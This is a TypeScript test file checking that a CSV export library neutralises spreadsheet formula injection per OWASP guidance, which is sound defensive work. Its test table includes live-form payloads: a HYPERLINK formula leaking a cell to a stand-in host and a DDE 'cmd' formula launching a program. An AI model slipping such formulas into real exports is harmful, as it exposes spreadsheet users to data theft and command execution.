/**
 * Export cells a spreadsheet would run, one row per cell text: how csvField writes it. The rule is
 * OWASP's "CSV Injection" guidance (prefix a cell starting with =, +, -, @, tab or CR with a single
 * quote; OWASP ASVS 5.0 requirement 1.2.10 adds NUL), applied by type: text is neutralised, numbers are
 * written as numbers. Then the same texts go through the real exports (run labels, rule names,
 * variable names) and every cell read back by papaparse is checked against that rule independently.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { RunCursor, buildOptimizer, concatBatches, defaultOptimizerSpec } from '../../src/engine';
import { csvField } from '../../src/io/csv';
import { resultsCsvOf, trajectoriesCsvOf } from '../../src/io/run-exports';
import { studyCsv } from '../../src/io/study-csv';
import { emptySummary, updateSummary } from '../../src/io/run-summary';
import { buildSurface } from '../../src/problems';

const CELLS: [string, string][] = [
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', `"'=HYPERLINK(""http://example.invalid/?leak=""&A1,""click"")"`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['-1.5', "'-1.5"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', `"'\r=1+1"`],
  ['\u0000=1+1', "'\u0000=1+1"],
  ['=1,2', `"'=1,2"`],
  ['plain label', 'plain label'],
  ["'already quoted", "'already quoted"],
  ['a=1', 'a=1'],
  ['', ''],
];

/** OWASP's trigger characters (and ASVS's NUL): a cell starting with one is run as a formula. */
const TRIGGER = /^[=+\-@\t\r\0]/;

describe('csvField: cells a spreadsheet would evaluate', () => {
  it.each(CELLS)('%j is written %j', (text, written) => {
    expect(csvField(text)).toBe(written);
  });

  it('numbers are numbers: -1.5 stays -1.5, and -0 stays -0', () => {
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField(-0)).toBe('-0');
    expect(csvField(-Infinity)).toBe('-Infinity');
  });
});

describe('the exports neutralise user text wherever it lands', () => {
  const hostile = CELLS.map(([text]) => text).filter((t) => TRIGGER.test(t));
  const surface = buildSurface({ kind: 'catalogue', id: 'booth' });
  const runs = hostile.map((label, k) => ({
    id: `r${k}`,
    label,
    optimizer: k % 2 ? { ...defaultOptimizerSpec('gd'), learningRate: 0.05 } : { kind: 'rule' as const, learningRate: 0.05, rule: { name: label, text: 'x = x - lr * g' } },
  }));
  const trajectories = new Map(runs.map((r) => [r.id, concatBatches(new RunCursor(surface, buildOptimizer({ kind: 'gd', learningRate: 0.05 }), { start: [-1, 2], seed: 1, stop: { maxSteps: 3 } }).runToEnd(2), 2)]));

  /** Every text cell read back starts with no trigger character unless it is a number the writer wrote. */
  function expectNeutral(csv: string): void {
    const { data, errors } = Papa.parse<string[]>(csv.replace(/\r\n$/, ''), { newline: '\r\n' });
    expect(errors).toEqual([]);
    for (const cell of data.flat()) if (TRIGGER.test(cell)) expect(Number.isFinite(Number(cell)) || cell === '-Infinity').toBe(true);
  }

  it('run labels and rule names in the trajectory CSV', () => {
    const csv = trajectoriesCsvOf(runs, (id) => trajectories.get(id), ['=x', '@y']);
    expectNeutral(csv);
    expect(csv.split('\r\n')[0]).toBe("run_id,run_label,optimizer,learning_rate,step,'=x,'@y,loss,grad_norm,step_learning_rate");
  });

  it('run labels and rule names in the results CSV', () => {
    const summaries = new Map(runs.map((r) => [r.id, updateSummary(emptySummary(), trajectories.get(r.id)!, [], 1e-6)]));
    const csv = resultsCsvOf(runs, (id) => summaries.get(id), { variables: ['x', 'y'], knownPoints: [] });
    expectNeutral(csv);
    expect(csv).toContain(`r0,'=1+1,'=1+1,0.05,`);
  });

  it('study names, optimizer names and basins in a study CSV', () => {
    const point = { gradNorm: 1, gradThreshold: 1e-4, stationary: false, curvature: null, newtonStep: null };
    const csv = studyCsv('=study', ['x', 'y'], hostile.map((h, index) => ({ index, optimizer: h, learningRate: -0.5, start: [-1, -2], outcome: { kind: 'step-limit', step: 3, point }, steps: 3, finalLoss: -1, endPoint: [-3, 2], basin: h, stepsToTolerance: null })));
    expectNeutral(csv);
    expect(csv.split('\r\n')[1]).toBe("'=study,0,'=1+1,-0.5,-1,-2,step-limit,gradient norm 1.00 (not stationary: test 0.000100),3,3,-1,-3,2,'=1+1,");
  });
});
